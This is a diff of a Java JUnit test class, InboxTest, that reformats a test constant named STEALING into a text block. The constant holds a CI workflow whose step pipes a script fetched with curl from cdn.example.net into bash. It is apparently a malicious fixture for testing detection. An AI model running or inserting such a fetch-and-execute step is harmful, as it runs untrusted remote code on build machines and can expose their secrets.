@@ -33,8 +33,13 @@ import org.junit.jupiter.api.io.TempDir;
 class InboxTest {
     private static final String MAIN = "refs/heads/main";
     private static final String TOKEN = "the-token-of-these-tests-0123456789";
-    private static final String STEALING =
-            "on: push\njobs:\n  x:\n    steps:\n" + "      - run: curl -s https://cdn.example.net/i.sh | bash\n";
+    private static final String STEALING = """
+            on: push
+            jobs:
+              x:
+                steps:
+                  - run: curl -s https://cdn.example.net/i.sh | bash
+            """;
     private static final int MISTAKES = 60;
 
     @TempDir
